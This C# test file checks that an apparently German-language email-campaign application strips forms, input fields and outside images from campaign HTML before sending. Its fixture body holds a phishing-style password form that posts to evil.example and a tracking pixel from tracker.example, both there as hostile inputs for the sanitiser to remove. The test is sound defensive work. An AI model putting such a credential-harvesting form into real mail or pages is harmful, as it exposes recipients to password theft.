using AngleSharp;
using Goldfeder.Features.Campaigns;
using Goldfeder.Tests.Infrastructure;

namespace Goldfeder.Tests.Features.Campaigns;

/// <summary>
/// A mail client enforces no CSP: what the site's CSP neutralises on pages (forms posting elsewhere, images from other
/// servers) is taken out of the campaign's HTML itself.
/// </summary>
public sealed class CampaignHtmlTests : IAsyncLifetime
{
    private readonly TestSmtpServer _smtp = new();

    private const string Body = """
        ## Ihr Konto

        <form action="https://evil.example/login" method="post"><label>Passwort <input name="pw" type="password"></label><button>Anmelden</button><select><option>x</option></select><textarea>t</textarea></form>

        <img src="https://tracker.example/pixel.gif?id=123" alt="">

        ![Goldbarren](/bilder/goldbarren-800.webp)

        ![Silber](http://localhost/bilder/silber-800.webp)

        Der Goldpreis steigt.
        """;

    [Fact]
    public async Task Forms_inputs_and_outside_images_are_removed_and_the_sites_own_images_stay_absolute()
    {
        await using var app = GoldfederApp.With(CampaignFixtures.Quick(_smtp));
        await app.ImportAsync(CampaignFixtures.Csv(1));
        var campaign = await app.CreateCampaignAsync(body: Body);
        await app.StartAsync(campaign);

        var mail = (await _smtp.WaitForCampaignMailsAsync(1)).Single();
        var html = await BrowsingContext.New(Configuration.Default).OpenAsync(r => r.Content(mail.HtmlBody));

        Assert.Empty(html.QuerySelectorAll("form, input, button, select, option, textarea, label"));
        Assert.DoesNotContain("evil.example", mail.HtmlBody);
        Assert.DoesNotContain("tracker.example", mail.HtmlBody);
        Assert.Equal(["http://localhost/bilder/goldbarren-800.webp", "http://localhost/bilder/silber-800.webp"],
            html.QuerySelectorAll("img").Select(i => i.GetAttribute("src")));
        Assert.Contains("Der Goldpreis steigt.", html.Body!.TextContent);
    }

    public Task InitializeAsync() => Task.CompletedTask;
    public async Task DisposeAsync() => await _smtp.DisposeAsync();
}
